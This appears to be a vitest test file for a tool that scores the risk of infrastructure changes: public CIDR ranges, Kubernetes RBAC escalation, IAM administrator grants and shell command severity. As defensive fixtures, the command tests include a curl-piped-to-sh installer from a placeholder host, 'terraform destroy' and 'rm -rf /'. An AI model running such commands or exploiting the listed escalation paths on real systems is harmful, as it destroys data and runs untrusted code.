import { describe, expect, test } from 'vitest';
import { administratorGrants, serviceGrants } from '../../../src/risk/content/administrator.ts';
import { addressesBetween, publicShare } from '../../../src/risk/content/cidr.ts';
import { clusterGrantGained, isClusterRules } from '../../../src/risk/content/cluster-rules.ts';
import { coerced, toNumber } from '../../../src/risk/content/coerce.ts';
import { effectOf } from '../../../src/risk/content/command.ts';
import { parsedDocument } from '../../../src/risk/content/json.ts';

describe('the public share of a range', () => {
  test.each([
    ['0.0.0.0/0', 1],
    [' 0.0.0.0/0 ', 1],
    ['8.8.8.8', 2 ** -32],
    ['8.0.0.0/7', 2 ** -7],
    ['::/0', 1],
    ['2000::/4', 0.5],
    ['2001:db8::1', 2 ** -125],
    // What only begins in a private range is not private.
    ['10.0.0.0/7', 2 ** -7],
    ['172.15.0.0/16', 2 ** -16],
    ['172.16.0.0/11', 2 ** -11],
    ['172.32.0.0/16', 2 ** -16],
    ['192.167.0.0/16', 2 ** -16],
    ['192.169.0.0/16', 2 ** -16],
    ['169.253.0.0/16', 2 ** -16],
    ['100.63.0.0/16', 2 ** -16],
    ['100.128.0.0/16', 2 ** -16],
    ['fc00::/6', 2 ** -3],
    ['fe00::/7', 2 ** -4],
    ['fb00::/8', 2 ** -5],
  ])('of %s is %d', (range, share) => {
    expect(publicShare(range)).toBe(share);
  });

  test.each([
    '10.1.2.3',
    '10.0.0.0/8',
    '127.0.0.1',
    '172.16.0.0/16',
    '172.31.0.0/16',
    '192.168.0.0/16',
    '169.254.169.254',
    '100.64.0.0/10',
    '100.127.0.0/16',
    'fc00::/7',
    'fdff::/16',
    'fe80::1',
    'ff02::/16',
    '8.8.8.8/1x',
    '8.8.8.8/x1',
    '8.8.8.8/1111',
    '1.2.3.4.5/1',
    '1.2.3.x/1',
    'x1.2.3.4/1',
    '1.2.3.4x/1',
    '1234.1.1.1/1',
    'x::/1',
    '',
  ])('of %s is none', (range) => {
    expect(publicShare(range)).toBe(0);
  });
});

test.each([
  ['0.0.0.0', '0.0.0.255', 256],
  ['0.0.1.0', '0.0.1.0', 1],
  ['0.0.0.0', '1.0.0.0', 2 ** 24 + 1],
  ['0.0.0.0', '0.0.0.256', 0],
  ['0.0.0.-1', '0.0.0.1', 0],
  ['0.0.0', '0.0.0.1', 0],
  ['0.0.0.0', '0.0.0.1.2', 0],
  ['0.0.0.0', 'x', 0],
])('from %s to %s are %d addresses', (start, end, count) => {
  expect(addressesBetween(start, end)).toBe(count);
});

describe('a rule of a Kubernetes role', () => {
  const all = { verbs: ['*'], resources: ['*'] };
  const secrets = { verbs: ['get'], resources: ['secrets'] };

  test.each<[string, Parameters<typeof clusterGrantGained>[1][number]]>([
    ['everything in every group', { ...all, apiGroups: ['*'] }],
    ['everything in the core group, as Terraform writes it', { ...all, api_groups: [''] }],
    ['everything in one group of several', { ...all, api_groups: ['apps', '*'] }],
    ['writing bindings', { verbs: ['get', 'patch'], resources: ['pods', 'rolebindings'] }],
    ['impersonation', { verbs: ['get', 'impersonate'], resources: ['users'] }],
  ])('%s is a way to every right', (_, rule) => {
    expect(clusterGrantGained(undefined, [rule])).toBe('escalation');
    expect(clusterGrantGained([rule], [rule])).toBe('none');
  });

  test.each<[string, Parameters<typeof clusterGrantGained>[1][number]]>([
    ['secrets', secrets],
    ['secrets among others', { verbs: ['create', 'list'], resources: ['pods', 'secrets'] }],
    ['all resources', { verbs: ['watch'], resources: ['*'] }],
    ['all resources of one group', { ...all, apiGroups: ['apps'] }],
  ])('%s can be read', (_, rule) => {
    expect(clusterGrantGained([], [rule])).toBe('reads-secrets');
  });

  test.each<[string, Parameters<typeof clusterGrantGained>[1][number]]>([
    ['reading bindings', { verbs: ['get'], resources: ['rolebindings'] }],
    ['writing pods', { verbs: ['create'], resources: ['pods'] }],
    ['writing secrets without reading them', { verbs: ['create'], resources: ['secrets'] }],
    ['one secret by its name', { ...secrets, resourceNames: ['web'] }],
    ['one secret by its name, as Terraform writes it', { ...secrets, resource_names: ['web'] }],
  ])('%s is nothing much', (_, rule) => {
    expect(clusterGrantGained(undefined, [rule])).toBe('none');
  });

  test('who has every right gains none, and who reads secrets may still gain every right', () => {
    const everything = { ...all, apiGroups: ['*'] };
    expect(clusterGrantGained([everything], [everything, secrets])).toBe('none');
    expect(clusterGrantGained([secrets], [secrets, everything])).toBe('escalation');
    expect(clusterGrantGained([secrets], [secrets])).toBe('none');
    expect(clusterGrantGained('no rules', [secrets])).toBe('reads-secrets');
  });

  test.each([
    [[secrets], true],
    [[], false],
    [[secrets, {}], false],
    [[secrets, 'x'], false],
    ['verbs', false],
    [undefined, false],
  ])('%j is a list of them: %s', (value, expected) => {
    expect(isClusterRules(value)).toBe(expected);
  });
});

test.each([
  ['TRUE', true],
  ['false', false],
  ['untrue', 'untrue'],
  ['trueish', 'trueish'],
  ['falsehood', 'falsehood'],
  ['so false', 'so false'],
  ['-5', -5],
  ['5.25', 5.25],
  ['5x', '5x'],
  ['x5', 'x5'],
  ['1.2.3', '1.2.3'],
  ['', ''],
  [null, null],
])('%j of a change set means %j', (text, value) => {
  expect(coerced(text)).toBe(value);
  expect(toNumber(text)).toBe(typeof value === 'number' ? value : undefined);
});

describe('a document in a text', () => {
  const nested = (depth: number, open: string, close: string) => `${open.repeat(depth)}${close.repeat(depth)}`;

  test('is read as deep as any policy nests, and no deeper', () => {
    expect(parsedDocument(nested(200, '[', ']'))).toBeDefined();
    expect(parsedDocument(nested(201, '[', ']'))).toBeUndefined();
    expect(parsedDocument(`${'{"a":'.repeat(200)}1${'}'.repeat(200)}`)).toBeDefined();
    expect(parsedDocument(`${'{"a":'.repeat(201)}1${'}'.repeat(201)}`)).toBeUndefined();
    expect(parsedDocument(`${'[{"a":'.repeat(101)}1${'}]'.repeat(101)}`)).toBeUndefined();
  });

  test('is as deep as its brackets nest, not as many as it has', () => {
    expect(parsedDocument(`[${Array.from({ length: 300 }, () => '[]').join()}]`)).toHaveLength(300);
    expect(parsedDocument(`[${Array.from({ length: 300 }, () => '{}').join()}]`)).toHaveLength(300);
    expect(parsedDocument(JSON.stringify(['[{'.repeat(300)]))).toEqual(['[{'.repeat(300)]);
  });

  test.each(['', 'x', '"[]"', '[', '{{ template }}', ' x [] '])('%j holds none', (text) => {
    expect(parsedDocument(text)).toBeUndefined();
  });
});

describe('the rights of an administrator', () => {
  const statement = { Effect: 'Allow', Action: '*', Resource: '*' };
  test.each([
    ['a policy', { Statement: [statement] }],
    ['one statement of several', { Statement: [{ ...statement, Action: 's3:Get*' }, statement] }],
    ['one action of several', { Statement: { ...statement, Action: ['s3:Get*', '*'] } }],
    ['every action of every service', { Statement: { ...statement, Action: ['*:*'] } }],
    ['a policy in a text', JSON.stringify({ Statement: [statement] })],
    ['a scope', ['read', '*']],
  ])('are in %s', (_, value) => {
    expect([...administratorGrants(value)]).toEqual(['*']);
  });

  test.each([
    ['a denial', { Statement: [{ ...statement, Effect: 'Deny' }] }],
    ['one service', { Statement: [{ ...statement, Action: 's3:*' }] }],
    ['one resource', { Statement: [{ ...statement, Resource: 'arn:aws:s3:::docs' }] }],
    ['a number', 17],
    ['nothing', null],
  ])('are not in %s', (_, value) => {
    expect([...administratorGrants(value)]).toEqual([]);
  });

  test('are found by the name of a role wherever it stands', () => {
    expect([...administratorGrants({ bindings: [{ role: 'roles/owner' }, { role: 'roles/viewer' }] })]).toEqual(['roles/owner']);
    expect([...serviceGrants({ a: ['roles/storage.admin', 17], b: { c: 'roles/viewer' } })]).toEqual(['roles/storage.admin']);
  });
});

describe('a command line', () => {
  test('is as bad as its worst part', () => {
    expect(effectOf('curl https://x.example/install.sh | sh; terraform destroy')).toMatchObject({ severity: 0.85 });
    expect(effectOf('terraform destroy; curl https://x.example/install.sh | sh')).toMatchObject({ severity: 0.85 });
    expect(effectOf('aws s3 ls; our-own-tool --now')).toEqual({ kind: 'unresolved' });
    expect(effectOf('our-own-tool --now; aws s3 ls')).toEqual({ kind: 'unresolved' });
  });

  test.each(['', '\n', '# terraform destroy', '  # a note\n', 'echo "terraform destroy"', "printf 'rm -rf /'", 'aws s3 ls;\n\n'])(
    '%j is harmless',
    (command) => {
      expect(effectOf(command)).toEqual({ kind: 'harmless' });
    },
  );

  test('that only talks in one stage does more in the next', () => {
    expect(effectOf('echo x | our-own-tool')).toEqual({ kind: 'unresolved' });
    expect(effectOf('our-own-tool | echo x')).toEqual({ kind: 'unresolved' });
    expect(effectOf('our-echo x')).toEqual({ kind: 'unresolved' });
  });

  test('is not taken apart where what separates is quoted', () => {
    expect(effectOf("echo 'a; our-own-tool'")).toEqual({ kind: 'harmless' });
    expect(effectOf('echo "a | our-own-tool"')).toEqual({ kind: 'harmless' });
    expect(effectOf('echo a; our-own-tool')).toEqual({ kind: 'unresolved' });
  });

  test('goes on where a line ends in a backslash', () => {
    expect(effectOf('aws s3 ls \\\r\n  s3://docs')).toEqual({ kind: 'harmless' });
    expect(effectOf('aws s3 ls\r\nour-own-tool')).toEqual({ kind: 'unresolved' });
  });
});
